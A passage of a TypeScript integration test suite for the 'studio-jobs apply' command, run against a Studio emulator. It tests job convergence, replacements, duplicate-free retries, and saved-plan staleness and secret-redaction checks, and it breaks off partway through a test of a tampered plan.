// `studio-jobs apply` against the emulator: convergence, replacements, ambiguous
// creates, saved plans, confirmation.

import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { stringify } from "yaml";
import { cliWith, recordingSleep, runCli } from "./cli-helpers.js";
import {
  copyExample,
  dailyJobs,
  handMade,
  liveByKey as groupLive,
  startTestStudio,
  useStudio,
  writeRepo,
  writeSpec,
  type TestStudio,
} from "./helpers.js";

const { studio, env } = useStudio();
const cli = cliWith(env);

/** Live, non-run records of a stack in team demo, grouped by key, as Studio lists them. */
const liveByKey = async (stack: string) => groupLive(await studio.client.listAllJobs("demo"), stack);

async function expectConverged(dir: string, args: string[], stack: string, keys: string[]): Promise<void> {
  const plan = await cli(dir, ["plan", ...args, "--detailed-exitcode"]);
  expect(plan.stderr).toBe("");
  expect(plan).toMatchObject({ code: 0, stdout: "No changes. Studio matches the spec in team demo.\n" });
  const live = await liveByKey(stack);
  expect([...live.keys()].sort()).toEqual([...keys].sort());
  for (const [, records] of live) expect(records).toHaveLength(1);
}

describe("convergence", () => {
  it("apply then plan shows no changes for every example", async () => {
    const analytics = copyExample("analytics");
    const applied = await cli(analytics, ["apply", ".", "--yes"]);
    expect(applied.code).toBe(0);
    expect(applied.stdout).toContain("Apply complete: 4 created, 0 replaced, 0 cancelled, 0 failed.");
    // backfill-2026 is a one-off job scheduled for later: it is live too.
    await expectConverged(analytics, ["."], "analytics", ["backfill-2026", "hourly-metrics", "nightly-embeddings", "weekly-cleanup"]);

    const ml = copyExample("ml-platform");
    expect((await cli(ml, ["apply", "jobs", "--yes"])).code).toBe(0);
    await expectConverged(ml, ["jobs"], "ml-platform", ["drift-report", "evaluate-ranker", "retrain-ranker"]);
  });

  it("converges for random specs and random changes to them", async () => {
    const job = fc.record({
      cron: fc.option(fc.constantFrom("@daily", "@hourly", "0 3 * * *", "*/15 * * * *"), { nil: undefined }),
      workers: fc.option(fc.integer({ min: 1, max: 8 }), { nil: undefined }),
      cluster: fc.option(fc.constantFrom("default", "gpu-pool"), { nil: undefined }),
      query: fc.constantFrom("print(1)", "print(2)", "import datachain"),
      environment: fc.dictionary(fc.constantFrom("A", "B", "C"), fc.constantFrom("x", "y", "z")),
      requirements: fc.option(fc.array(fc.constantFrom("numpy", "pandas"), { minLength: 1, maxLength: 2 }), { nil: undefined }),
      replace: fc.constantFrom("create-first", "cancel-first"),
    });
    const spec = fc.dictionary(fc.constantFrom("a", "b", "c", "d", "e", "f"), job, { minKeys: 1, maxKeys: 6 });
    const toYaml = (jobs: Record<string, Record<string, unknown>>) => {
      const out: Record<string, unknown> = {};
      for (const [key, j] of Object.entries(jobs)) {
        out[key] = {
          query: j["query"],
          ...(j["cron"] === undefined ? {} : { schedule: { cron: j["cron"], replace: j["replace"] } }),
          ...(j["workers"] === undefined ? {} : { workers: j["workers"] }),
          ...(j["cluster"] === undefined ? {} : { cluster: j["cluster"] }),
          ...(j["requirements"] === undefined ? {} : { requirements: j["requirements"] }),
          environment: j["environment"],
        };
      }
      return stringify({ version: 1, stack: "random", defaults: { team: "demo" }, jobs: out });
    };
    await fc.assert(
      fc.asyncProperty(spec, spec, async (first, second) => {
        studio.emulator.store.clear();
        const dir = mkdtempSync(join(tmpdir(), "studio-jobs-random-"));
        for (const version of [first, second]) {
          writeFileSync(join(dir, "studio-jobs.yaml"), toYaml(version));
          const applied = await cli(dir, ["apply", ".", "--yes", "--allow-empty"]);
          expect(applied.stderr).not.toContain("FAILED");
          expect(applied.code).toBe(0);
          studio.clock.advance(45_000); // one-off jobs finish; they stay satisfied
          await expectConverged(
            dir,
            ["."],
            "random",
            Object.keys(version).filter((k) => (version[k] as { cron?: string }).cron !== undefined),
          );
        }
      }),
      { numRuns: 12, seed: 20261129 },
    );
  });
});

describe("start times", () => {
  it("sends a schedule without a start time with start_after = now, yet the next plan shows no change", async () => {
    const dir = copyExample("analytics");
    const now = Date.parse("2026-11-01T01:30:00Z");
    const applied = await runCli(["apply", ".", "--yes"], { cwd: dir, env, now: () => now });
    expect(applied.code).toBe(0);
    const records = new Map(studio.emulator.store.allJobs().map((r) => [r.name, r]));
    // Cron jobs are dated now, as datachain's client does; the one-off keeps the spec's start time.
    expect(records.get("hourly-metrics")).toMatchObject({ start_after: now, status: "TASK", next_at: Date.parse("2026-11-01T02:00:00Z") });
    expect(records.get("nightly-embeddings")).toMatchObject({ start_after: now, status: "TASK" });
    expect(records.get("backfill-2026")).toMatchObject({ start_after: Date.parse("2026-12-01T00:00:00Z"), status: "SCHEDULED" });
    await expectConverged(dir, ["."], "analytics", ["backfill-2026", "hourly-metrics", "nightly-embeddings", "weekly-cleanup"]);
  });

  it("sends a schedule's own start time as the spec gives it, not now", async () => {
    const dir = writeRepo({});
    writeSpec(dir, "starts", { later: { query: "print(1)", schedule: { cron: "0 * * * *", start_after: "2026-12-01T00:30:00Z" } } });
    const now = Date.parse("2026-11-01T01:30:00Z");
    const applied = await runCli(["apply", ".", "--yes"], { cwd: dir, env, now: () => now });
    expect(applied.code).toBe(0);
    const record = studio.emulator.store.allJobs().find((r) => r.name === "later");
    expect(record).toMatchObject({
      start_after: Date.parse("2026-12-01T00:30:00Z"),
      status: "TASK",
      next_at: Date.parse("2026-12-01T01:00:00Z"),
    });
    await expectConverged(dir, ["."], "starts", ["later"]);
  });
});

describe("replace", () => {
  async function appliedExample(): Promise<string> {
    const dir = copyExample("analytics");
    expect((await cli(dir, ["apply", ".", "--yes"])).code).toBe(0);
    return dir;
  }
  const bump = (dir: string) =>
    writeFileSync(join(dir, "queries/metrics.py"), readFileSync(join(dir, "queries/metrics.py"), "utf8").replace("3600", "7200"));

  // The order of the steps (create, then cancel; or cancel first) is checked against a fake
  // Studio in src/apply/execute.test.ts; here, what a replace leaves in Studio.
  it("replaces a changed job: the new one is live, the old one cancelled (create-first)", async () => {
    const dir = await appliedExample();
    const [old] = (await liveByKey("analytics")).get("hourly-metrics") ?? [];
    bump(dir);
    const result = await cli(dir, ["apply", ".", "--yes"]);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain("Apply complete: 0 created, 1 replaced, 0 cancelled, 0 failed.");
    const all = await studio.client.listAllJobs("demo");
    expect(all.find((j) => j.id === old?.id)?.status).toBe("CANCELING_SCHEDULED");
    await expectConverged(dir, ["."], "analytics", ["backfill-2026", "hourly-metrics", "nightly-embeddings", "weekly-cleanup"]);
  });

  it("keeps the old job live and reports the step failed when the create fails", async () => {
    const dir = await appliedExample();
    const [old] = (await liveByKey("analytics")).get("hourly-metrics") ?? [];
    bump(dir);
    studio.emulator.faults.configure({}, [
      { method: "POST", path: "/api/datachain/jobs/", bodyIncludes: '"query_name":"hourly-metrics"', kind: "error", times: 10 },
    ]);
    const { sleep, waits } = recordingSleep();
    const result = await cli(dir, ["apply", ".", "--yes"], { sleep, random: () => 1 });
    // Six tries, each after looking for the one before; between them the longest wait of each backoff step.
    expect(waits).toEqual([200, 400, 800, 1600, 2000]);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain("Apply finished with failures: 0 created, 0 replaced, 0 cancelled, 1 failed, 1 skipped.");
    expect(result.stdout).toContain(
      "create demo/hourly-metrics: FAILED: [POST] /api/datachain/jobs/: 503 Service temporarily unavailable (injected).",
    );
    expect(result.stdout).toContain(`cancel demo/hourly-metrics: skipped: the new job was not created, so ${old?.id} is kept`);
    const live = await liveByKey("analytics");
    expect(live.get("hourly-metrics")?.map((j) => j.id)).toEqual([old?.id]);

    studio.emulator.faults.configure({}, []);
    expect((await cli(dir, ["apply", ".", "--yes"])).code).toBe(0);
    await expectConverged(dir, ["."], "analytics", ["backfill-2026", "hourly-metrics", "nightly-embeddings", "weekly-cleanup"]);
  });

  it("replaces a changed job with schedule.replace: cancel-first", async () => {
    const dir = await appliedExample();
    const [old] = (await liveByKey("analytics")).get("weekly-cleanup") ?? [];
    writeFileSync(join(dir, "scripts/cleanup.sh"), "#!/bin/sh\necho changed\n");
    const result = await cli(dir, ["apply", ".", "--yes"]);
    expect(result.stdout).toContain("Apply complete: 0 created, 1 replaced, 0 cancelled, 0 failed.");
    const [now] = (await liveByKey("analytics")).get("weekly-cleanup") ?? [];
    expect(now?.id).not.toBe(old?.id);
    expect(studio.emulator.store.allJobs().find((j) => j.id === old?.id)?.status).toBe("CANCELING_SCHEDULED");
    await expectConverged(dir, ["."], "analytics", ["backfill-2026", "hourly-metrics", "nightly-embeddings", "weekly-cleanup"]);
  });
});

describe("ambiguous creates", () => {
  it("creates no duplicates when connections drop after the server acted", async () => {
    const dir = mkdtempSync(join(tmpdir(), "studio-jobs-resets-"));
    const jobs = dailyJobs(30);
    writeSpec(dir, "resets", jobs);
    studio.emulator.faults.configure({ resetRate: 0.3, seed: 42 });
    const result = await cli(dir, ["apply", ".", "--yes"], { sleep: recordingSleep().sleep });
    studio.emulator.faults.configure({ resetRate: 0 });
    expect(result.stderr).toMatch(/found after an ambiguous failure/);
    const live = await liveByKey("resets");
    for (const [, records] of live) expect(records).toHaveLength(1);
    if (result.code !== 0) expect((await cli(dir, ["apply", ".", "--yes"])).code).toBe(0);
    await expectConverged(dir, ["."], "resets", Object.keys(jobs));
  });
});

describe("saved plans", () => {
  it("applies a saved plan as approval, without asking", async () => {
    const dir = copyExample("analytics");
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    const applied = await cli(dir, ["apply", "plan.json"]);
    expect(applied.code).toBe(0);
    expect(applied.stdout).toContain("Apply complete: 4 created, 0 replaced, 0 cancelled, 0 failed.");
    await expectConverged(dir, ["."], "analytics", ["backfill-2026", "hourly-metrics", "nightly-embeddings", "weekly-cleanup"]);
  });

  it("refuses to save a plan that would hold the Studio token, given with --var, and saves nothing", async () => {
    // Found by attack: the printed plan showed *** but plan.json held the token in the clear.
    const dir = writeRepo({});
    writeSpec(dir, "leaky", { job: { query: "print(1)", environment: { TOKEN: "${var:token}" } } });
    const token = env["DATACHAIN_STUDIO_TOKEN"] ?? "";
    const refused = await cli(dir, ["plan", ".", "--var", `token=${token}`, "--out", "plan.json"]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain(
      "Error: Cannot save the plan to plan.json: jobs.job.environment.TOKEN holds the Studio token, and a saved plan never stores a credential. Nothing was saved.\n",
    );
    expect(existsSync(join(dir, "plan.json"))).toBe(false);
  });

  it("does not print the start of a secret where a query's preview cuts it, in the text and Markdown plans and apply's", async () => {
    // Found by a secrets hunt: a create's query is previewed by its first 59 characters, cut
    // before the output was redacted, and the start of a secret the cut split was too short a
    // part of it (under a quarter) to be hidden: 28 characters of a 120-character one.
    const secret = `sk${"Ab3dEf6h".repeat(15)}`.slice(0, 120);
    const dir = writeRepo({});
    writeSpec(dir, "cut", {
      job: { query: 'print("padding padding padd", "${var:key}")', environment: { API_KEY: "${env:API_KEY}" } },
    });
    const options = { env: { API_KEY: secret } };
    const preview = 'query: print("padding padding padd", "***… (1 line, 153 characters)';
    for (const args of [["plan"], ["plan", "--format", "markdown"], ["apply"]]) {
      const result = await cli(dir, [...args, ".", "--var", `key=${secret}`], options);
      expect(result.stdout).toContain(preview);
      expect(result.stdout + result.stderr).not.toContain(secret.slice(0, 10));
    }
  });

  it("says a failed plan --out saved nothing, and that the plan left at that path is an earlier one", async () => {
    // Found by a tester: a later plan refused (over --max-cancel) left the earlier plan.json
    // in place unsaid, and apply plan.json would take it while Studio had not changed.
    const dir = copyExample("analytics");
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    const saved = readFileSync(join(dir, "plan.json"), "utf8");
    expect((await cli(dir, ["apply", ".", "--yes"])).code).toBe(0);
    writeFileSync(
      join(dir, "studio-jobs.yaml"),
      readFileSync(join(dir, "studio-jobs.yaml"), "utf8").replace(/\n {2}hourly-metrics:[\s\S]*?(?=\n {2}\S)/, ""),
    );
    const refused = await cli(dir, ["plan", ".", "--out", "plan.json", "--max-cancel", "0"]);
    expect(refused.code).toBe(1);
    expect(
      refused.stderr.endsWith(
        "Nothing was saved to plan.json: the plan there is an earlier one, left as it was; do not apply it for this spec.\n",
      ),
    ).toBe(true);
    expect(readFileSync(join(dir, "plan.json"), "utf8")).toBe(saved);
  });

  it("refuses a stale plan and changes nothing", async () => {
    const dir = copyExample("analytics");
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    expect((await cli(dir, ["apply", ".", "--yes", "--target", "hourly-metrics"])).code).toBe(0);
    const before = studio.emulator.store.allJobs().length;
    const stale = await cli(dir, ["apply", "plan.json"]);
    expect(stale.code).toBe(1);
    const made = studio.emulator.store.allJobs()[0]?.id ?? "";
    expect(stale.stderr).toBe(
      "Error: Saved plan is stale: the jobs in Studio changed since it was made:\n" +
        `  job ${made} of "hourly-metrics" in team demo was made since (by another apply, or in Studio).\n` +
        "Nothing was changed.\nMake a new plan with `studio-jobs plan . --out FILE` and apply that.\n",
    );
    expect(studio.emulator.store.allJobs()).toHaveLength(before);
  });

  it("says a saved plan applied a second time left Studio as it leaves it, not that its jobs were made since", async () => {
    // Note 20's item: the second apply of a saved plan named every job it had made as "made
    // since (by another apply, or in Studio)", as if someone else had changed Studio.
    const dir = writeRepo({});
    const daily = (query: string) => ({ query, schedule: { cron: "@daily" } });
    writeSpec(dir, "twice", { kept: daily("print(1)"), replaced: daily("print(2)"), removed: daily("print(3)") });
    expect((await cli(dir, ["apply", ".", "--yes"])).code).toBe(0);
    writeSpec(dir, "twice", {
      kept: daily("print(1)"),
      replaced: daily("print(2, 'new')"),
      added: daily("print(4)"),
      once: { query: "print(5)" },
    });
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    expect((await cli(dir, ["apply", "plan.json"])).code).toBe(0);
    studio.clock.advance(45_000); // the one-off job runs and completes: made by the plan all the same
    expect(studio.emulator.store.allJobs().find((r) => r.name === "once")?.status).toBe("COMPLETE");
    const jobs = studio.emulator.store.allJobs().length;
    const again = await cli(dir, ["apply", "plan.json"]);
    expect([again.code, again.stdout, again.stderr]).toEqual([
      1,
      "",
      "Error: Saved plan is stale: Studio is already as it leaves it: the jobs it creates or replaces run as it makes them, and those it replaces or cancels have ended. Nothing was changed.\nRun `studio-jobs plan .` to see whether anything is left to do.\n",
    ]);
    expect(studio.emulator.store.allJobs()).toHaveLength(jobs);
    // Once another change is made, the plan is stale as before, and says what changed.
    const added = studio.emulator.store.allJobs().find((r) => r.name === "added" && r.status === "TASK")?.id ?? "";
    await studio.client.cancelJob("demo", added);
    const stale = await cli(dir, ["apply", "plan.json"]);
    expect(stale.stderr).toContain("Error: Saved plan is stale: the jobs in Studio changed since it was made");
  });

  it("says a saved plan that cancelled a duplicate beside the job it keeps left Studio as it leaves it, when applied again", async () => {
    // A key's actions in a team are judged together: the duplicate's cancel beside the job kept,
    // whose record stays live.
    const dir = writeRepo({});
    writeSpec(dir, "dup", { only: { query: "print(1)", schedule: { cron: "@daily" } } });
    expect((await cli(dir, ["apply", ".", "--yes"])).code).toBe(0);
    const original = studio.emulator.store.allJobs().find((r) => r.name === "only");
    if (original === undefined) throw new Error("not created");
    const environment = Object.entries(original.environment)
      .map(([name, value]) => `${name}=${value}`)
      .join("\n");
    const copy = await studio.client.createJob({
      query: original.query,
      query_type: "PYTHON",
      query_name: "only",
      team_name: "demo",
      environment,
      cron_expression: "@daily",
    });
    // Which of the two is kept is the keep rule's (both made at the same time here).
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).stdout).toMatch(
      /^ {2}- {3}demo\/only {2}cancel job \S+ \(another live job of this key, beside the one kept\)$/m,
    );
    expect((await cli(dir, ["apply", "plan.json"])).code).toBe(0);
    const live = studio.emulator.store.allJobs().filter((r) => (r.id === copy.id || r.id === original.id) && r.status === "TASK");
    expect(live).toHaveLength(1);
    const again = await cli(dir, ["apply", "plan.json"]);
    expect(again.code).toBe(1);
    expect(again.stderr).toContain("Error: Saved plan is stale: Studio is already as it leaves it");
  });

  it("does not say Studio is as a saved plan leaves it when a live job the plan knows nothing of was made since", async () => {
    // Found in review: the check that a saved plan was applied already looked only at the keys
    // of its actions in their teams, so a job of another key made since (which a new plan
    // cancels as removed), or one made by hand under a key's name (a conflict), was taken
    // for "Studio is already as it leaves it".
    const dir = writeRepo({});
    const daily = (query: string) => ({ query, schedule: { cron: "@daily" } });
    writeSpec(dir, "extra", { kept: daily("print(1)") });
    expect((await cli(dir, ["apply", ".", "--yes"])).code).toBe(0);
    writeSpec(dir, "extra", { kept: daily("print(1)"), added: daily("print(2)") });
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    expect((await cli(dir, ["apply", "plan.json"])).code).toBe(0);
    const id = (name: string) => studio.emulator.store.allJobs().find((r) => r.name === name && r.status === "TASK")?.id ?? "";

    const other = writeRepo({});
    writeSpec(other, "extra", { more: daily("print('other')") });
    expect((await cli(other, ["apply", ".", "--yes", "--target", "more"])).code).toBe(0);
    const again = await cli(dir, ["apply", "plan.json"]);
    const stale = (result: { code: number; stderr: string }, line: string) => [
      result.code,
      result.stderr.split("\n")[0],
      result.stderr.split("\n").includes(line),
    ];
    const header = "Error: Saved plan is stale: the jobs in Studio changed since it was made:";
    const more = `  job ${id("more")} of "more" in team demo was made since (by another apply, or in Studio).`;
    expect(stale(again, more)).toEqual([1, header, true]);

    await studio.client.cancelJob("demo", id("more"));
    const byHandJob = await studio.client.createJob(handMade("added"));
    const conflict = await cli(dir, ["apply", "plan.json"]);
    const byHand = `  job ${byHandJob.id} in team demo, named "added" and managed by no stack, was made since.`;
    expect(stale(conflict, byHand)).toEqual([1, header, true]);
  });

  it("does not take an earlier run of a one-off job with a sensitive value for the run a saved plan makes", async () => {
    // Found in review: with no fingerprint in the file (a sensitive value), any earlier ended
    // version of a one-off job was taken for the one the plan runs again, so a plan never
    // applied was said to have left Studio as it leaves it once anything else changed.
    const dir = writeRepo({});
    const secretEnv = { env: { SJ_SECRET: "s3cret-value" } };
    const once = (query: string) => ({ query, environment: { K: "${env:SJ_SECRET}" } });
    writeSpec(dir, "rerun", { once: once("print(1)") });
    expect((await cli(dir, ["apply", ".", "--yes"], secretEnv)).code).toBe(0);
    studio.clock.advance(45_000);
    writeSpec(dir, "rerun", { once: once("print(2)"), other: { query: "print(3)" } });
    expect((await cli(dir, ["apply", ".", "--yes", "--target", "other"], secretEnv)).code).toBe(0);
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"], secretEnv)).stdout).toContain("Plan: 1 to create, 0 to replace");
    // Meanwhile a copy of "once" (its markers, made by hand) runs and ends: the only change,
    // the plan not applied. Its run, like the first version's, is no run of the plan's job.
    const first = studio.emulator.store.allJobs().find((r) => r.name === "once");
    if (first === undefined) throw new Error("once was not created");
    const environment = Object.entries(first.environment)
      .map(([name, value]) => `${name}=${value}`)
      .join("\n");
    await studio.client.createJob({ query: "print(9)", query_type: "PYTHON", query_name: "once", team_name: "demo", environment });
    studio.clock.advance(45_000);
    const stale = await cli(dir, ["apply", "plan.json"], secretEnv);
    expect([stale.code, stale.stderr]).toEqual([
      1,
      "Error: Saved plan is stale: the jobs in Studio changed since it was made. Nothing was changed.\nMake a new plan with `studio-jobs plan . --out FILE` and apply that.\n",
    ]);
    expect(studio.emulator.store.allJobs().filter((r) => r.name === "once")).toHaveLength(2);
  });

  it("says which jobs changed since a stale plan was made: made since, by an apply or by hand, or cancelled", async () => {
    // Found by an adversarial tester: a saved plan refused as stale said only "the jobs in
    // Studio changed since it was made", so a reviewer could not tell what the new plan would
    // differ in: a concurrent apply's new version, a job cancelled by hand, a job made by hand.
    const dir = writeRepo({});
    const daily = (query: string) => ({ query, schedule: { cron: "@daily" } });
    writeSpec(dir, "stale", { kept: daily("print(1)"), replaced: daily("print(2)"), removed: daily("print(3)") });
    expect((await cli(dir, ["apply", ".", "--yes"])).code).toBe(0);
    const id = (key: string) => studio.emulator.store.allJobs().find((r) => r.name === key)?.id ?? "";
    const [kept, replaced, removed] = [id("kept"), id("replaced"), id("removed")];
    writeSpec(dir, "stale", { kept: daily("print(1)"), replaced: daily("print(2, 'new')"), added: daily("print(4)") });
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);

    // Meanwhile: the job kept and the job to replace are cancelled in Studio, a job of the
    // plan's new key is made by another apply, and one by hand under the same name.
    const other = writeRepo({});
    writeSpec(other, "stale", { added: daily("print('other')") });
    expect((await cli(other, ["apply", ".", "--yes", "--target", "added"])).code).toBe(0);
    const theirs = id("added");
    const handMade = await studio.client.createJob({
      query: "print(0)",
      query_type: "PYTHON",
      query_name: "added",
      team_name: "demo",
      environment: "",
    });
    for (const job of [kept, replaced]) await studio.client.cancelJob("demo", job);

    const stale = await cli(dir, ["apply", "plan.json"]);
    expect(stale.code).toBe(1);
    expect(stale.stderr).toBe(
      [
        "Error: Saved plan is stale: the jobs in Studio changed since it was made:",
        `  job ${kept} of "kept" in team demo, which the plan keeps, is CANCELING_SCHEDULED now.`,
        `  job ${replaced} of "replaced" in team demo, which the plan replaces, is CANCELING_SCHEDULED now.`,
        `  job ${theirs} of "added" in team demo was made since (by another apply, or in Studio).`,
        `  job ${handMade.id} in team demo, named "added" and managed by no stack, was made since.`,
        "Nothing was changed.",
        "Make a new plan with `studio-jobs plan . --out FILE` and apply that.",
        "",
      ].join("\n"),
    );
    expect(studio.emulator.store.allJobs().find((r) => r.id === removed)?.status).toBe("TASK");
  });

  it("applies a saved plan whose kept one-off job ran and ended since it was made: a run ending is no change", async () => {
    // Note 21's item: a plan saved while a one-off job of the stack was queued, approved and
    // applied once it had run, was refused as stale ("it may have ended since the plan was
    // made"): a plan, an approval and an apply hours later failed whenever one ended between.
    const dir = writeRepo({});
    writeSpec(dir, "stale-once", { once: { query: "print(1)" } });
    expect((await cli(dir, ["apply", ".", "--yes"])).code).toBe(0);
    writeSpec(dir, "stale-once", { once: { query: "print(1)" }, daily: { query: "print(2)", schedule: { cron: "@daily" } } });
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    studio.clock.advance(45_000); // the one-off job runs and completes
    const job = studio.emulator.store.allJobs().find((r) => r.name === "once");
    expect(job?.status).toBe("COMPLETE");
    const applied = await cli(dir, ["apply", "plan.json"]);
    expect([applied.code, applied.stdout]).toEqual([
      0,
      expect.stringContaining("Apply complete: 1 created, 0 replaced, 0 cancelled, 0 failed."),
    ]);
    expect(studio.emulator.store.allJobs().filter((r) => r.name === "daily" && r.status === "TASK")).toHaveLength(1);
    // A one-off job the plan cancels that has run to its end since is a change (its cancel
    // would fail): here the only one, which leaves Studio as the plan would, and it says so.
    writeSpec(dir, "stale-once", { again: { query: "print(3)" }, daily: { query: "print(2)", schedule: { cron: "@daily" } } });
    expect((await cli(dir, ["apply", ".", "--yes", "--target", "again"])).code).toBe(0);
    writeSpec(dir, "stale-once", { once: { query: "print(1)" }, daily: { query: "print(2)", schedule: { cron: "@daily" } } });
    expect((await cli(dir, ["plan", ".", "--out", "cancels.json"])).stdout).toContain("(removed from the spec)");
    studio.clock.advance(45_000);
    const again = studio.emulator.store.allJobs().find((r) => r.name === "again");
    expect(again?.status).toBe("COMPLETE");
    const cancelled = await cli(dir, ["apply", "cancels.json"]);
    expect([cancelled.code, cancelled.stderr.split("\n")[0]]).toEqual([
      1,
      "Error: Saved plan is stale: Studio is already as it leaves it: the jobs it creates or replaces run as it makes them, and those it replaces or cancels have ended. Nothing was changed.",
    ]);
    // A schedule the plan keeps that has ended since is a change, and is said.
    expect((await cli(dir, ["plan", ".", "--out", "plan2.json"])).code).toBe(0);
    const daily = studio.emulator.store.allJobs().find((r) => r.name === "daily" && r.status === "TASK");
    if (daily === undefined) throw new Error("daily was not created");
    studio.emulator.store.restore({ ...daily, status: "COMPLETE" });
    const stale = await cli(dir, ["apply", "plan2.json"]);
    expect([stale.code, stale.stderr.split("\n").slice(0, 2)]).toEqual([
      1,
      [
        "Error: Saved plan is stale: the jobs in Studio changed since it was made:",
        `  job ${daily.id} of "daily" in team demo, which the plan keeps, is COMPLETE now.`,
      ],
    ]);
  });

  it("refuses a plan saved before a sensitive value changed, without printing it", async () => {
    const dir = copyExample("analytics");
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"], { env: { EMBED_API_KEY: "first-key-value" } })).code).toBe(0);
    const refused = await cli(dir, ["apply", "plan.json"], { env: { EMBED_API_KEY: "second-key-value" } });
    expect(refused.code).toBe(1);
    expect(refused.stderr).toBe(
      'Error: Job "nightly-embeddings": the value of environment.EMBED_API_KEY differs from when the plan was made.\nNothing was changed.\nMake a new plan with `studio-jobs plan . --out FILE` and apply that.\n',
    );
    expect(studio.emulator.store.allJobs()).toHaveLength(0);
    expect((await cli(dir, ["apply", "plan.json"], { env: { EMBED_API_KEY: "first-key-value" } })).code).toBe(0);
  });

  it("refuses a plan whose cluster was deactivated or made smaller since, before a cancel-first replace cancels the old job", async () => {
    // Found by an adversarial test: apply of a saved plan did not look at the clusters again.
    // Its cancel-first replace cancelled the old job, the create was refused (inactive
    // cluster), and the job ran no version; `apply` of the spec refused the plan up front.
    const dir = writeRepo({});
    writeSpec(dir, "clusters", {
      nightly: { query: "print(1)", cluster: "gpu-pool", workers: 4, schedule: { cron: "0 3 * * *", replace: "cancel-first" } },
    });
    expect((await cli(dir, ["apply", ".", "--yes"])).code).toBe(0);
    const [old] = [...((await liveByKey("clusters")).get("nightly") ?? [])];
    writeFileSync(join(dir, "studio-jobs.yaml"), readFileSync(join(dir, "studio-jobs.yaml"), "utf8").replace("print(1)", "print(2)"));
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    const gpu = studio.emulator.store.clusters.find((c) => c.name === "gpu-pool");
    if (gpu === undefined) throw new Error("the emulator has no gpu-pool");
    const was = { ...gpu };
    try {
      for (const [change, said] of [
        [{ is_active: false }, "would run on cluster gpu-pool, which is not active. Choose another cluster."],
        [{ max_workers: 2 }, "asks for 4 workers; cluster gpu-pool allows at most 2."],
      ] as const) {
        Object.assign(gpu, was, change);
        const refused = await cli(dir, ["apply", "plan.json"]);
        expect(refused).toMatchObject({ code: 1, stdout: "" });
        expect(refused.stderr).toBe(
          "Error: Saved plan is stale: the clusters in Studio changed since it was made.\n" +
            `Job "nightly" (team demo) ${said}\nNothing was changed.\nMake a new plan with \`studio-jobs plan . --out FILE\` and apply that.\n`,
        );
        expect([...((await liveByKey("clusters")).get("nightly") ?? [])].map((r) => r.id)).toEqual([old?.id]);
      }
    } finally {
      Object.assign(gpu, was);
    }
    expect((await cli(dir, ["apply", "plan.json"])).code).toBe(0);
  });

  it("says where it looked for a file to upload when a saved plan is applied from another directory", async () => {
    // Found by an adversarial test: `cd sub && apply ../plan.json` said only "file
    // data/labels.csv is missing" and to make a new plan, though the file was where it was.
    const dir = copyExample("analytics");
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    mkdirSync(join(dir, "sub"));
    const refused = await cli(join(dir, "sub"), ["apply", "../plan.json"]);
    expect(refused).toMatchObject({ code: 1, stdout: "" });
    expect(refused.stderr.split("\n")[0]).toBe(
      `Error: Job "nightly-embeddings": file data/labels.csv is missing: there is nothing at ${join(dir, "sub", "data", "labels.csv")}. ` +
        "A saved plan's paths are relative to the directory it was made in; apply it from there.",
    );
    expect(studio.emulator.store.allJobs()).toHaveLength(0);
    expect((await cli(dir, ["apply", "plan.json"])).code).toBe(0);
  });

  it("refuses a plan whose uploaded file changed", async () => {
    const dir = copyExample("analytics");
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    writeFileSync(join(dir, "data/labels.csv"), "path,label\n");
    const refused = await cli(dir, ["apply", "plan.json"]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('Error: Job "nightly-embeddings": file data/labels.csv changed since the plan was made.');
    expect(studio.emulator.store.allJobs()).toHaveLength(0);
  });

  it("refuses, at once, a plan whose uploaded file became a FIFO, a link to /dev/zero, or a larger file", async () => {
    // Found by an adversarial tester: apply hashed the file as a stream. A FIFO hung it in
    // open() for good (signals did not end it), /dev/zero hashed without end.
    const dir = copyExample("analytics");
    expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
    const labels = join(dir, "data/labels.csv");
    const original = readFileSync(labels);
    const cases: [string, () => void][] = [
      ["is a named pipe (FIFO) now, not a file", () => execFileSync("mkfifo", [labels])],
      ["is a device now, not a file", () => symlinkSync("/dev/zero", labels)],
      ["changed since the plan was made", () => writeFileSync(labels, Buffer.concat([original, Buffer.alloc(1024 * 1024)]))],
    ];
    for (const [said, make] of cases) {
      rmSync(labels);
      make();
      const refused = await cli(dir, ["apply", "plan.json"]);
      expect(refused.code, said).toBe(1);
      expect(refused.stderr, said).toContain(`Error: Job "nightly-embeddings": file data/labels.csv ${said}.`);
    }
    expect(studio.emulator.store.allJobs()).toHaveLength(0);
  });

  it("refuses a saved plan whose cancel was edited to name another stack's job, and cancels nothing", async () => {
    const victim = mkdtempSync(join(tmpdir(), "studio-jobs-victim-"));
    writeSpec(victim, "victim", { precious: { query: "print(42)", schedule: { cron: "0 1 * * *" } } });
    expect((await cli(victim, ["apply", "--yes"])).code).toBe(0);
    const precious = [...(await liveByKey("victim")).values()].flat()[0];
    if (precious === undefined) throw new Error("the victim's job was not created");

    const dir = mkdtempSync(join(tmpdir(), "studio-jobs-tp-"));
    const keep = { query: "print(1)", schedule: { cron: "0 2 * * *" } };
    writeSpec(dir, "tp", { keep, gone: { query: "print(2)", schedule: { cron: "0 3 * * *" } } });
